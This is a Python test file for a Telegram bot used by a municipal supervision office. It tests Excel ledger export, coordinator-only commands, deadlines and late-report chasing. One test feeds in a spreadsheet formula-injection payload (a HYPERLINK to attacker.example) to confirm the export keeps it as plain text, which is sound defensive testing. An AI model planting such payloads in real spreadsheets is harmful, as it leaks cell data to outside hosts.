"""Coordinator tools: the Excel ledger (and that liaisons are refused)."""

from __future__ import annotations

import io
from collections.abc import AsyncIterator
from datetime import date, datetime

import openpyxl
import pytest
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from bot.plan.loader import import_plan
from bot.plan.numerals import chinese_numeral
from tests.factories.bot import COORDINATOR_ID, SHANGHAI, MovableClock, running_bot
from tests.factories.people import liaison, report_all
from tests.factories.plans import directory, load_seed
from tests.harness import BotHarness

Sessions = async_sessionmaker[AsyncSession]
NOW = datetime(2026, 6, 10, 9, 30, tzinfo=SHANGHAI)
NDRC = 6001


@pytest.fixture
async def bot(database_url: str, sessions: Sessions) -> AsyncIterator[BotHarness]:
    await load_seed(sessions, year=2026)
    await liaison(sessions, NDRC, "市发改委", now=NOW, name="张三")
    await report_all(
        sessions,
        "市发改委",
        numbers=[2],
        period_start=date(2026, 6, 1),
        period_end=date(2026, 6, 30),
        due=date(2026, 6, 25),
        now=NOW,
        status="at_risk",
    )
    async with running_bot(database_url, MovableClock(NOW)) as harness:
        yield harness


async def test_export_sends_the_ledger_workbook(bot: BotHarness) -> None:
    await bot.command(bot.user(COORDINATOR_ID, "督查室"), "/export")
    [call] = bot.api.calls("sendDocument")
    document = call.params["document"]
    assert document["filename"] == "督办台账-20260610.xlsx"
    assert call.params["caption"].startswith("📒 宁政发〔2021〕16号 工作台账(2026年6月")
    book = openpyxl.load_workbook(io.BytesIO(document["bytes"]))
    assert len(book.sheetnames) == 14
    assert book.sheetnames[:2] == [
        "1.关于毫不松懈做好常态化疫情防控",
        "2.关于加快打造高质量发展区域增长极",
    ]
    assert book.sheetnames[-3:] == ["全部报送记录", "单位报送率", "量化指标序时进度"]
    section2 = book["2.关于加快打造高质量发展区域增长极"]
    assert section2.freeze_panes == "A2"
    assert [c.value for c in section2[1]] == [
        "编号",
        "任务",
        "主办单位",
        "协办单位",
        "灯号",
        "最新状态",
        "进度(%)",
        "最新报送内容",
        "报送人",
        "报送时间",
    ]
    row = [c.value for c in section2[2]]
    assert row[:2] == [2, "地区生产总值增长7%,固定资产投资增长8%。"]
    assert row[2] == "市发改委" and row[4] == "🟡 预警" and row[5] == "存在风险"
    assert (row[6], row[7], row[9]) == (50, "按计划推进", datetime(2026, 6, 10, 9, 30))
    assert section2.cell(2, 10).number_format == "yyyy-mm-dd hh:mm"  # an Excel date-time
    assert section2.max_row == 1 + 12  # the section's 12 tasks
    reports = book["全部报送记录"]
    assert reports.max_row == 2 and reports["C2"].value == "市发改委"
    rates = {r[1]: r for r in book["单位报送率"].iter_rows(min_row=2, values_only=True)}
    assert rates["市发改委"][2:6] == (23, 1, 1, pytest.approx(1 / 23, abs=1e-4))
    assert rates["市发改委"][6] == "是" and rates["市财政局"][6] == "否"


async def test_the_ledger_keeps_formula_like_text_as_text(
    database_url: str, sessions: Sessions
) -> None:
    # A report text or a Telegram name that looks like a formula must not run in Excel.
    await load_seed(sessions, year=2026)
    name = '=HYPERLINK("http://attacker.example/?"&B3,"附件")'
    contact = await liaison(sessions, NDRC, "市发改委", now=NOW, name=name)
    await report_all(
        sessions,
        "市发改委",
        numbers=[2],
        period_start=date(2026, 6, 1),
        period_end=date(2026, 6, 30),
        due=date(2026, 6, 25),
        now=NOW,
        text="=1+1",
        contact_id=contact,
    )
    async with running_bot(database_url, MovableClock(NOW)) as bot:
        await bot.command(bot.user(COORDINATOR_ID, "督查室"), "/export")
        [call] = bot.api.calls("sendDocument")
    book = openpyxl.load_workbook(io.BytesIO(call.params["document"]["bytes"]))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells}
    assert {"=1+1", name} <= texts  # shown as written


async def test_liaisons_and_strangers_cannot_export(bot: BotHarness) -> None:
    for user_id in (NDRC, 6099):
        await bot.command(bot.user(user_id), "/export")
        assert bot.api.last_text(user_id) == "此功能仅限督查室协调人使用。"
    assert bot.api.calls("sendDocument") == []


async def test_deadline_is_set_shown_and_reset(bot: BotHarness, sessions: Sessions) -> None:
    from sqlalchemy import select

    from data.models import AuditEntry, Task

    coordinator = bot.user(COORDINATOR_ID, "督查室")
    await bot.command(coordinator, "/deadline", "2", "2026-09-30")
    assert bot.api.last_text(COORDINATOR_ID) == "任务 2 的完成时限已设为 2026年9月30日。"
    await bot.command(bot.user(NDRC), "/task", "2")
    assert "完成时限:2026年9月30日" in bot.api.last_text(NDRC)
    await bot.command(coordinator, "/deadline", "2", "9月31日")
    assert bot.api.last_text(COORDINATOR_ID).startswith("“9月31日”不是有效日期")
    await bot.command(coordinator, "/deadline", "2")
    assert bot.api.last_text(COORDINATOR_ID).startswith("用法:/deadline")
    await bot.command(coordinator, "/deadline", "2", "-")
    assert bot.api.last_text(COORDINATOR_ID) == "任务 2 的完成时限已恢复为年底(2026年12月31日)。"
    async with sessions() as session:
        task = await session.scalar(select(Task).where(Task.number == 2))
        assert task is not None and task.deadline is None
        actions = (await session.scalars(select(AuditEntry.action))).all()
    assert actions.count("task.deadline") == 2


async def test_assign_members_of_a_relevant_collective(
    bot: BotHarness, sessions: Sessions
) -> None:
    await liaison(sessions, 6002, "江宁区政府", now=NOW)
    district = bot.user(6002)
    await bot.command(district, "/task", "46")
    assert "本单位角色" not in bot.api.last_text(6002)  # 相关区政府: not until assigned
    coordinator = bot.user(COORDINATOR_ID, "督查室")
    await bot.command(coordinator, "/assign", "46", "江宁区政府", "市发改委", "火星办")
    assert bot.api.last_text(COORDINATOR_ID).splitlines() == [
        "已为任务 46 指定:江宁区政府",
        "找不到单位:火星办",
        "不属于该任务的“相关”单位集合:市发改委",
    ]
    await bot.command(coordinator, "/assign", "46", "江宁区政府")
    assert bot.api.last_text(COORDINATOR_ID) == "已指定过:江宁区政府"
    await bot.command(district, "/task", "46")
    assert "本单位角色:协办" in bot.api.last_text(6002)
    await bot.command(coordinator, "/assign", "2", "江宁区政府")
    assert "没有“相关”类单位集合" in bot.api.last_text(COORDINATOR_ID)


async def test_period_shows_and_moves_the_due_day(bot: BotHarness) -> None:
    coordinator = bot.user(COORDINATOR_ID, "督查室")
    await bot.command(coordinator, "/period")
    assert bot.api.last_text(COORDINATOR_ID).splitlines()[:2] == [
        "本期:2026年6月(6月1日 至 6月30日)",
        "报送截止:2026年6月25日(每月 25 日,遇节假日提前至前一个工作日)",
    ]
    # The 20th is a Saturday and the 19th the Dragon Boat holiday: due on the 18th.
    await bot.command(coordinator, "/period", "20")
    assert bot.api.last_text(COORDINATOR_ID) == "已将截止日改为每期 20 日,本期截止 2026年6月18日。"
    await bot.command(coordinator, "/period", "32")
    assert bot.api.last_text(COORDINATOR_ID) == "“32”不是 1–31 之间的日期。"


@pytest.mark.parametrize(
    "command", ["/export", "/deadline", "/assign", "/period", "/invite", "/late", "/status"]
)
async def test_every_coordinator_command_refuses_a_liaison(bot: BotHarness, command: str) -> None:
    await bot.command(bot.user(NDRC), command, "2", "2026-09-30")
    assert bot.api.last_text(NDRC) == "此功能仅限督查室协调人使用。"


async def test_late_chase_and_received(bot: BotHarness, sessions: Sessions) -> None:
    from sqlalchemy import select

    from data.models import Chase
    from tests.factories.bot import deliver

    coordinator = bot.user(COORDINATOR_ID, "督查室")
    await bot.command(coordinator, "/late")
    listing = bot.api.last_message(COORDINATOR_ID)
    lines = bot.api.last_text(COORDINATOR_ID).splitlines()
    # Every lead unit still owes something; only 市发改委 has a liaison who can be reached.
    assert lines[0] == "📋 2026年6月未报送单位(截止 6月25日):52 个"
    assert lines[1] == "• 市发改委:22 项未报"
    assert lines[3].startswith("⚠️ 无法联系") and "• 市财政局:4 项未报" in lines
    labels = [text for row in bot.api.buttons(listing) for text, _ in row]
    assert labels == ["📣 催办 市发改委", "📣 全部催办", "下一页 ▶"]  # 52 units: 3 pages

    calls = await bot.press(coordinator, "📣 催办 市发改委", listing)
    answer = next(c for c in calls if c.method == "answerCallbackQuery")
    assert answer.params["text"] == "已向 1 个单位的 1 位联络员发送催办。"
    assert "• 市发改委:22 项未报(已催办,未确认)" in bot.api.current(listing)["text"]
    assert await deliver(bot) == 1
    chase_message = bot.api.last_message(NDRC)
    assert bot.api.last_text(NDRC).startswith("📣 督查室催办:市发改委 本期还有 22 项任务未报送")

    stranger_calls = await bot.send(
        bot.updates.callback(
            bot.user(6099), bot.api.buttons(chase_message)[0][0][1] or "", chase_message
        )
    )
    assert any(
        c.params.get("text") == "该按钮已失效,请重新发送命令。"
        for c in stranger_calls
        if c.method == "answerCallbackQuery"
    )
    calls = await bot.press(bot.user(NDRC), "✅ 收到", chase_message)
    assert next(c for c in calls if c.method == "answerCallbackQuery").params["text"] == (
        "已确认收到,谢谢!"
    )
    async with sessions() as session:
        [record] = (await session.scalars(select(Chase))).all()
    assert record.acknowledged_at is not None
    await bot.command(coordinator, "/late")
    assert "• 市发改委:22 项未报(已确认收到 6月10日 09:30)" in bot.api.last_text(COORDINATOR_ID)
    # The chase's report buttons start a report on the unit's task.
    await bot.press(bot.user(NDRC), "📝 5", chase_message)
    assert "报送 任务 5" in bot.api.last_text(NDRC)


async def test_status_shows_rate_lights_ranking_and_a_chart(bot: BotHarness) -> None:
    await bot.command(bot.user(COORDINATOR_ID, "督查室"), "/status")
    text = bot.api.sent_messages(COORDINATOR_ID)[-2].text or ""  # the photo comes last
    lines = text.splitlines()
    assert lines[0] == "📊 2026年6月报送情况(截止 6月25日)"
    assert lines[1] == "报送率:0/52 个单位已全部报送(0.0%)"
    # Task 2 is at risk (yellow); the rest of section 2 is not reported, due in 11 working days.
    assert "二、加快打造高质量发展区 ✅0 🟢0 ⚪11 🟡1 🔴0" in lines
    assert lines[lines.index("按时报送排名(前 10 名)") + 1] == "1. 市发改委 1/23"
    [photo] = bot.api.calls("sendPhoto")
    assert photo.params["photo"]["bytes"].startswith(b"\x89PNG")


async def test_status_names_sections_past_twenty(database_url: str, sessions: Sessions) -> None:
    lines = ["某市人民政府文件", "测政发〔2026〕9号", "2026年工作方案", ""]
    for n in range(1, 22):
        lines += [f"{chinese_numeral(n)}、关于第{n}部分", f"{n}.第{n}项任务。(市发改委主办)"]
    async with sessions() as session:
        await import_plan(
            session, text="\n".join(lines), directory=directory(), now=NOW, year=2026
        )
        await session.commit()
    async with running_bot(database_url, MovableClock(NOW)) as bot:
        await bot.command(bot.user(COORDINATOR_ID, "督查室"), "/status")
        text = next(c.params["text"] for c in bot.api.calls("sendMessage"))
    assert "二十、第20部分" in text and "二十一、第21部分" in text
